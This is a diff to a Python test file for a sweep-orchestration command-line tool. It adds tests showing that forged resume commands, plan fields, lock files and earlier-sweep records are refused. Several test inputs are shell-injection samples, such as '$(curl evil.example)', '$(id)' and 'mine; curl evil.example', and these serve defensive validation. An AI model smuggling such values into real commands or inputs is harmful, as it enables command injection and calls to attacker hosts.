@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import copy
 import json
+import shutil
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -11,10 +12,11 @@ from typing import Any
 import pytest
 
 from orchestrator.results.launches import find_launch, read_events
-from orchestrator.results.store import EVENTS, IDENTITY, SWEEP, Identity, read_sweep_yaml
+from orchestrator.results.store import DRIVER_LOCK, EARLIER, EVENTS, IDENTITY, SWEEP, Identity, read_sweep_yaml
+from orchestrator.results.sweep import Sweep
 from orchestrator.results.trials import TrialRecord
-from orchestrator.run.earlier import Source
-from tests.fakes.command_line import error_of
+from orchestrator.run.earlier import EarlierSweepError, Source, _trials_before
+from tests.fakes.command_line import error_of, specfrontier
 from tests.fakes.synthetic_sweeps import identity, write_sweep
 from workers.data.checked_json import dump_checked
 from workers.data.storage import Storage
@@ -140,12 +142,18 @@ def test_events_of_others_are_damaged_lines(sweep: Path, tmp_path: Path) -> None
         "specfrontier launch $(curl evil.example) --resume",
         "specfrontier launch 'mine --resume",
         'specfrontier launch mine --notify "$SPECFRONTIER_NOTIFY$(id)" --resume',
+        "specfrontier ui mine --host 0.0.0.0",
+        "specfrontier --plugin sweeps.theirs.rules launch mine --resume",
+        "specfrontier --plugin=sweeps.theirs.rules launch mine --resume",
     ],
 )
-def test_the_command_that_resumes_a_launch_is_one_of_this_project(resume: str, tmp_path: Path) -> None:
-    event = {"at": "2026-01-02T03:00:00+00:00", "event": "launch", "resume": resume}
-    Storage(tmp_path).write(EVENTS, f"{json.dumps(event)}\n".encode())
-    assert read_events(Storage(tmp_path)).resume == "specfrontier launch SPACE --resume"
+def test_the_command_that_resumes_a_launch_is_one_of_this_project(
+    resume: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    event, storage = {"at": "2026-01-02T03:00:00+00:00", "event": "launch", "resume": resume}, Storage("sweeps/theirs")
+    storage.write(EVENTS, f"{json.dumps(event)}\n".encode())
+    assert read_events(storage).resume == "specfrontier launch SPACE --resume"
 
 
 @pytest.mark.parametrize(
@@ -154,6 +162,7 @@ def test_the_command_that_resumes_a_launch_is_one_of_this_project(resume: str, t
         "specfrontier launch mine.yaml --set 'budget.trials=4' --resume",
         'specfrontier launch mine.yaml --notify "$SPECFRONTIER_NOTIFY" --resume',
         "the same call and resume=True",
+        "specfrontier --plugin mine.rules launch mine.yaml --resume",
     ],
 )
 def test_the_command_that_a_launch_stored_is_kept(resume: str, tmp_path: Path) -> None:
@@ -187,6 +196,10 @@ def test_a_plan_that_cannot_be_read_names_its_file(text: str, sweep: Path, tmp_p
         ("plugins", ["mine; curl evil.example"]),
         ("constraints", ["fid <= 2; curl"]),
         ("grid", ["8", "8"]),
+        ("grid", [0, 8]),
+        ("image_size", 0),
+        ("samples", -1),
+        ("timing", {"batch": 0}),
         ("objectives", [{"metric": "`curl`", "direction": "minimize"}]),
     ],
 )
@@ -197,3 +210,41 @@ def test_a_forged_identity_is_refused_by_name(key: str, value: object, sweep: Pa
     message = error_of("status", str(tmp_path), code=1)
     assert f"{IDENTITY}: damaged" in message
     assert "\x1b" not in message
+
+
+def test_numbers_that_no_sweep_measures_are_read_or_refused(sweep: Path, tmp_path: Path) -> None:
+    """A length of zero divides by nothing, and the square of an error is a number."""
+    for number, metric, key in ((3, "mean_accepted_length", "value"), (4, "fid", "error")):
+        shutil.rmtree(tmp_path)
+        shutil.copytree(sweep, tmp_path)
+        name = f"trials/{number:05d}.json"
+        plain = json.loads((sweep / name).read_bytes())
+        plain.pop("checksum")
+        plain["metrics"].setdefault(metric, dict(plain["metrics"]["fid"]))[key] = {"value": 0, "error": 1e200}[key]
+        Storage(tmp_path).write(name, dump_checked(plain))
+        if key == "value":
+            assert specfrontier("status", str(tmp_path)).code == 0
+        else:
+            assert name in error_of("status", str(tmp_path), code=1)
+
+
+@pytest.mark.parametrize("lock", ["[" * 4000, '{"pid": [' * 400, '{"pid": 1}', "[]"])
+def test_a_lock_that_is_no_process_names_an_unknown_one(lock: str, tmp_path: Path) -> None:
+    Storage(tmp_path).write(DRIVER_LOCK, lock.encode())
+    assert find_launch(Storage(tmp_path)).driver == "an unknown process"
+
+
+@pytest.mark.parametrize("sources", [7, [7], [{"trials": 3}], [{"name": 3, "records": []}], [{"name": "x"}]])
+def test_a_forged_list_of_earlier_sweeps_is_refused_by_name(sources: object, sweep: Path, tmp_path: Path) -> None:
+    shutil.copytree(sweep, tmp_path, dirs_exist_ok=True)
+    Storage(tmp_path).write(EARLIER, dump_checked({"sources": sources}))
+    assert f"{EARLIER}: damaged" in error_of("status", str(tmp_path), code=1)
+
+
+def test_a_negative_number_of_earlier_trials_does_not_count(sweep: Path, tmp_path: Path) -> None:
+    """It would make wrong stops more frequent than stated."""
+    shutil.copytree(sweep, tmp_path, dirs_exist_ok=True)
+    for trials in (-5, True, 1e9, None):
+        Storage(tmp_path).write(EARLIER, dump_checked({"sources": [{"trials": trials}]}))
+        with pytest.raises(EarlierSweepError, match=EARLIER):
+            _trials_before(Sweep.open(tmp_path))
